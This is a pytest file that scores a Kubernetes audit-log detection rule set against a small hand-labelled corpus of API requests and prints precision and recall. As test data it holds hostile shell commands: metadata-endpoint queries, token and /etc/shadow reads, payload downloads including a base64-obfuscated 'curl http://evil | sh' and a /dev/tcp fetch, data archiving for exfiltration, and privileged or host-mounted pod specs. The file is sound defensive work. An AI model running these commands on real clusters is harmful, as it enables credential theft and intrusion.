"""A small corpus, labelled by hand with what a person would say of each request, against what the rules say.

The labels were written from the requests, not from the rules: some requests hide what they do, and some look worse
than they are. The table of precision and recall is printed (``pytest -rA``), and every miss and every find without
cause is named below, so that none comes unnoticed. The set is small and made by us: the table compares versions of the
rules, it does not say how often they are right in somebody's cluster.
"""

from __future__ import annotations

import sys
from collections import Counter
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlencode

from kubedossier.analytics.ingest.paths import ApiPath
from kubedossier.analytics.ingest.techniques import judge
from kubedossier.analytics.technique_rules import rule_book

ANN = "ann@example.com"
CI = "system:serviceaccount:ci:deployer"
CONTROLLER = "system:serviceaccount:kube-system:replicaset-controller"
NODE = "system:node:node-1"


@dataclass
class Case:
    """A request and the techniques a person sees in it."""

    on: str
    verb: str
    labels: str
    user: str | None = ANN
    name: str | None = "x"
    namespace: str | None = "shop"
    command: str | None = None
    body: Any = None
    uri: str | None = None
    acting: str | None = None
    groups: list[str] = field(default_factory=list)

    def found(self) -> set[str]:
        resource, _, subresource = self.on.partition("/")
        path = ApiPath("core", "v1", self.namespace, resource or None, self.name, subresource or None)
        uri = self.uri or f"/api/v1/namespaces/{self.namespace}/{resource}/{self.name}"
        if self.command is not None:
            uri += "/exec?" + urlencode([("command", word) for word in self.command.split("\0")]) + "&stdin=true"
        verdict = judge(self.verb, path if resource else ApiPath(), self.user, self.groups, self.acting, None, uri,
                        "allow", 200, self.body)  # fmt: skip
        return set(verdict.techniques or ())


def container(**context: Any) -> dict[str, Any]:
    return {"name": "a", "image": "registry.example/a", "securityContext": context}


def pod(*containers: dict[str, Any], **spec: Any) -> dict[str, Any]:
    return {"kind": "Pod", "spec": {"containers": list(containers) or [container()], **spec}}


def template(spec: dict[str, Any]) -> dict[str, Any]:
    return {"spec": {"template": spec}}


def host_path(*, read_only: bool = False, mounted: bool = True) -> dict[str, Any]:
    mount = {"name": "v", "mountPath": "/v"} | ({"readOnly": True} if read_only else {})
    return pod(
        container() | {"volumeMounts": [mount] if mounted else []}, volumes=[{"name": "v", "hostPath": {"path": "/"}}]
    )


def in_shell(text: str) -> str:
    return f"sh\0-c\0{text}"


def execs(command: str, labels: str = "") -> Case:
    return Case("pods/exec", "get", f"execIntoContainer {labels}", command=command)


CASES = [
    # exec
    execs("bash"),
    execs("ls\0/"),
    Case("pods/exec", "create", "execIntoContainer", command="id"),
    Case("pods/attach", "create", "execIntoContainer"),
    Case("pods/attach", "get", "execIntoContainer", user=CI),
    Case("pods/exec", "create", "", user=CONTROLLER, command="id"),
    Case("pods/portforward", "create", ""),
    Case("pods/log", "get", ""),
    execs(in_shell("curl -s http://169.254.169.254/latest/meta-data/"), "cloudInstanceMetadataAPI ingressToolTransfer"),
    execs(in_shell("wget -qO- http://metadata.google.internal/computeMetadata/v1/"),
          "cloudInstanceMetadataAPI ingressToolTransfer"),
    execs("cat\0/var/run/secrets/kubernetes.io/serviceaccount/token", "unsecuredCredentials"),
    execs("cat\0/root/.kube/config", "unsecuredCredentials"),
    execs(in_shell("cut -d: -f2 /etc/shadow | head"), "unsecuredCredentials"),
    execs("cat\0/etc/passwd"),
    execs(in_shell("cd /tmp && curl -fsSLO https://files.example.net/tool && chmod +x tool"), "ingressToolTransfer"),
    execs("wget\0http://203.0.113.9/x.sh", "ingressToolTransfer"),
    execs("curl\0-o\0/tmp/x\0files.example.net/tool", "ingressToolTransfer"),
    execs("curl\0-s\0localhost:8080/healthz"),
    execs("curl\0http://127.0.0.1:9090/metrics"),
    execs(in_shell("apt-get install -y curl")),
    execs("curl\0--version"),
    execs("tar\0cf\0-\0/data/orders", "exfiltrationGeneral"),
    execs("tar\0-czf\0-\0-C\0/data\0.", "exfiltrationGeneral"),
    execs(in_shell("tar c /data"), "exfiltrationGeneral"),
    execs("tar\0-xmf\0-\0-C\0/tmp", "lateralToolTransfer"),
    execs("tar\0xf\0-", "lateralToolTransfer"),
    execs("tar\0tf\0/data/backup.tar"),
    execs("tar\0-czf\0/backup/nightly.tgz\0/data"),
    execs("cat\0/data/backup.tar\0xargs"),
    # debug containers
    Case("pods/ephemeralcontainers", "patch", "execIntoContainer createContainer",
         body={"spec": {"ephemeralContainers": [container()]}}),
    Case("pods/ephemeralcontainers", "patch", "execIntoContainer createContainer privilegedContainer",
         body={"spec": {"ephemeralContainers": [container(privileged=True)]}}),
    Case("pods/ephemeralcontainers", "get", ""),
    # pods and their templates
    Case("pods", "create", "createContainer", body=pod()),
    Case("pods", "create", "", user=CONTROLLER, body=pod(container(privileged=True))),
    Case("pods", "create", "", user=NODE, body=pod()),
    Case("pods", "create", "createContainer", user=CI, body=pod(container(privileged=False, runAsUser=0))),
    Case("pods", "create", "createContainer privilegedContainer", body=pod(container(), container(privileged=True))),
    Case("pods", "create", "createContainer privilegedContainer", body=pod(hostNetwork=True)),
    Case("pods", "create", "createContainer privilegedContainer", body=pod(hostPID=True)),
    Case("pods", "create", "createContainer", body=pod(hostPID=False, hostNetwork=False, hostIPC=False)),
    Case("pods", "create", "createContainer privilegedContainer",
         body=pod(initContainers=[container(capabilities={"add": ["SYS_ADMIN"]})])),
    Case("pods", "create", "createContainer privilegedContainer",
         body=pod(container(capabilities={"add": ["cap_sys_ptrace"], "drop": ["ALL"]}))),
    Case("pods", "create", "createContainer", body=pod(container(capabilities={"add": ["NET_BIND_SERVICE"]}))),
    Case("pods", "create", "createContainer", body=pod(container(capabilities={"drop": ["ALL"]}))),
    Case("pods", "create", "createContainer writableVolumes", body=host_path()),
    Case("pods", "create", "createContainer", body=host_path(read_only=True)),
    Case("pods", "create", "createContainer", body=host_path(mounted=False)),
    Case("pods", "create", "createContainer", body=pod(volumes=[{"name": "v", "emptyDir": {}}])),
    Case("deployments", "create", "createContainer", body=template(pod())),
    Case("deployments", "create", "createContainer privilegedContainer",
         body=template(pod(container(privileged=True)))),
    Case("deployments", "patch", "", body={"spec": {"replicas": 3}}),
    Case("deployments", "patch", "writableVolumes", body=template(host_path())),
    Case("deployments", "patch", "privilegedContainer",
         body=[{"op": "add", "path": "/spec/template/spec/hostPID", "value": True}]),
    Case("deployments", "patch", "privilegedContainer", body=[
        {"op": "replace", "path": "/spec/template/spec/containers/0/securityContext/privileged", "value": True}]),
    Case("deployments", "patch", "writableVolumes", body=[
        {"op": "add", "path": "/spec/template/spec/volumes/-", "value": {"name": "v", "hostPath": {"path": "/"}}},
        {"op": "add", "path": "/spec/template/spec/containers/0/volumeMounts/-", "value": {"name": "v"}}]),
    Case("deployments", "patch", "",
         body=[{"op": "remove", "path": "/spec/template/spec/containers/0/securityContext/privileged"}]),
    Case("deployments/scale", "patch", "", body={"spec": {"replicas": 3}}),
    Case("daemonsets", "create", "createContainer privilegedContainer", body=template(pod(hostIPC=True))),
    Case("jobs", "create", "createContainer", body=template(pod())),
    Case("cronjobs", "create", "scheduledTaskJob privilegedContainer",
         body={"spec": {"jobTemplate": {"spec": template(pod(container(privileged=True)))["spec"]}}}),
    Case("cronjobs", "update", "scheduledTaskJob", body={"spec": {"suspend": True}}),
    Case("cronjobs/status", "update", "", user="system:serviceaccount:kube-system:cronjob-controller"),
    Case("cronjobs", "delete", ""),
    # secrets
    Case("secrets", "get", "kubernetesSecrets"),
    Case("secrets", "list", "kubernetesSecrets", name=None),
    Case("secrets", "list", "kubernetesSecrets", name=None, namespace=None),
    Case("secrets", "watch", "", user="system:kube-controller-manager", name=None, namespace=None),
    Case("secrets", "get", "", user=NODE),
    Case("secrets", "get", "", user=CI, name="sh.helm.release.v1.shop.v12"),
    Case("secrets", "get", "kubernetesSecrets", user=CI),
    Case("secrets", "create", ""),
    Case("configmaps", "get", ""),
    # accounts and rights
    Case("serviceaccounts", "create", "createAccount"),
    Case("serviceaccounts/token", "create", "accountManipulation unsecuredCredentials"),
    Case("serviceaccounts/token", "create", "", user=NODE),
    Case("serviceaccounts", "delete", "accountAccessRemoval"),
    Case("serviceaccounts", "list", "accountDiscovery", name=None),
    Case("serviceaccounts", "list", "", user=CI, name=None),
    Case("clusterrolebindings", "create", "accountManipulation"),
    Case("roles", "patch", "accountManipulation"),
    Case("clusterroles", "list", "accountDiscovery", name=None),
    Case("clusterroles", "get", ""),
    Case("rolebindings", "delete", "accountAccessRemoval"),
    Case("clusterroles", "update", "", user="system:serviceaccount:kube-system:clusterrole-aggregation-controller"),
    Case("configmaps", "patch", "accountManipulation", namespace="kube-system", name="aws-auth"),
    Case("configmaps", "patch", "", namespace="shop", name="aws-auth"),
    Case("certificatesigningrequests", "create", "accountManipulation", namespace=None),
    Case("certificatesigningrequests", "create", "", user=NODE, namespace=None),
    Case("certificatesigningrequests", "create", "", user="system:bootstrap:abcdef", namespace=None),
    Case("certificatesigningrequests/approval", "update", "accountManipulation", namespace=None),
    Case("selfsubjectrulesreviews", "create", "accountDiscovery", name=None, namespace=None),
    Case("selfsubjectaccessreviews", "create", "", name=None, namespace=None),
    Case("pods", "list", "", acting="bob"),
    Case("pods", "list", "abuseElevationControlMechanisms", acting="system:admin"),
    Case("pods", "list", "abuseElevationControlMechanisms", acting="system:serviceaccount:kube-system:x"),
    Case("pods", "list", "", user="system:apiserver", acting="system:admin"),
    # guards, names, nodes
    Case("mutatingwebhookconfigurations", "create", "eventTriggeredExecution", namespace=None),
    Case("validatingwebhookconfigurations", "delete", "impairDefences", namespace=None),
    Case("networkpolicies", "delete", "impairDefences"),
    Case("networkpolicies", "create", ""),
    Case("events", "deletecollection", "impairDefences", name=None),
    Case("events", "create", ""),
    Case("configmaps", "update", "manInTheMiddle", namespace="kube-system", name="coredns"),
    Case("configmaps", "update", "", namespace="kube-system", name="kube-proxy"),
    Case("nodes/proxy", "get", "accessKubeletMainAPI", namespace=None, uri="/api/v1/nodes/n/proxy/pods"),
    Case("nodes/proxy", "create", "accessKubeletMainAPI", namespace=None, uri="/api/v1/nodes/n/proxy/run/shop/a/b"),
    Case("nodes/proxy", "get", "", namespace=None, uri="/api/v1/nodes/n/proxy/metrics/cadvisor"),
    Case("nodes/proxy", "get", "", namespace=None, uri="/api/v1/nodes/n/proxy/healthz"),
    Case("nodes/proxy", "get", "accessKubeletMainAPI", namespace=None, uri="/api/v1/nodes/n/proxy/metricsx"),
    # nobody
    Case("", "get", "", user="system:anonymous", uri="/healthz"),
    Case("", "get", "", user="system:anonymous", uri="/readyz/etcd?verbose"),
    Case("", "get", "", user="system:anonymous", uri="/version?timeout=32s"),
    Case("", "get", "", user="system:anonymous", uri="/apis/apps/v1"),
    Case("", "get", "", user="system:anonymous", uri="/openapi/v2"),
    Case("", "get", "accessKubernetesAPIServer", user="system:anonymous", uri="/metrics"),
    Case("", "get", "accessKubernetesAPIServer", user="system:anonymous", uri="/healthzz"),
    Case("pods", "list", "accessKubernetesAPIServer", user="system:anonymous", name=None),
    Case("secrets", "list", "accessKubernetesAPIServer kubernetesSecrets", user="system:anonymous", name=None),
    Case("pods", "list", "accessKubernetesAPIServer", user=None, name=None, groups=["system:unauthenticated"]),
    # what hides itself, or works in other words: known to be missed, and counted as such
    execs(in_shell("echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | sh"), "ingressToolTransfer"),
    execs("python3\0-c\0import urllib.request as u; u.urlretrieve('http://203.0.113.9/x', '/tmp/x')",
          "ingressToolTransfer"),
    execs(in_shell("exec 3<>/dev/tcp/203.0.113.9/80; cat <&3 > /tmp/x"), "ingressToolTransfer"),
    execs("cat\0/proc/1/environ", "unsecuredCredentials"),
    execs(in_shell("cat /data/orders | base64"), "exfiltrationGeneral"),
    Case("persistentvolumes", "create", "writableVolumes", namespace=None, body={"spec": {"hostPath": {"path": "/"}}}),
    # what only looks like it: known to be found without cause
    Case("secrets", "get", "", user="system:serviceaccount:ingress-nginx:ingress-nginx", name="shop-tls"),
    Case("serviceaccounts/token", "create", "", user="system:serviceaccount:vault:vault", namespace="vault"),
    # the day's work
    Case("leases", "update", "", user=NODE),
    Case("nodes/status", "patch", "", user=NODE),
    Case("pods", "list", "", name=None),
    Case("pods", "delete", ""),
    Case("services", "create", "", body={"spec": {"type": "NodePort"}}),
]  # fmt: skip


def test_the_rules_find_what_a_person_sees():
    right: Counter[str] = Counter()
    extra: Counter[str] = Counter()
    missed: Counter[str] = Counter()
    wrong = []
    for case in CASES:
        labels, found = set(case.labels.split()), case.found()
        right.update(labels & found)
        extra.update(found - labels)
        missed.update(labels - found)
        if labels != found:
            wrong.append((case, found))
    sys.stdout.write(table(right, extra, missed))
    assert extra == {"kubernetesSecrets": 1, "accountManipulation": 1, "unsecuredCredentials": 1}, wrong
    assert missed == {
        "ingressToolTransfer": 3, "unsecuredCredentials": 1, "exfiltrationGeneral": 1, "writableVolumes": 1,
    }, wrong  # fmt: skip


def test_every_technique_that_a_rule_may_give_is_in_the_corpus_with_and_without_it():
    labels = [set(case.labels.split()) for case in CASES]
    given = {value for rule in rule_book().rules if rule.enabled and not rule.aggregate for value in rule.techniques}
    assert given == set.union(*labels)
    assert sum(not one for one in labels) > len(CASES) / 4


def table(right: Counter[str], extra: Counter[str], missed: Counter[str]) -> str:
    lines = [f"{'technique':<34}{'labelled':>9}{'found':>7}{'precision':>11}{'recall':>8}"]
    for value in [*sorted(right | extra | missed), "all"]:
        hits, more, less = ((sum(one.values()) if value == "all" else one[value]) for one in (right, extra, missed))
        precision, recall = (hits / total if total else 0.0 for total in (hits + more, hits + less))
        lines.append(f"{value:<34}{hits + less:>9}{hits + more:>7}{precision:>11.2f}{recall:>8.2f}")
    return "\n".join([*lines, ""])
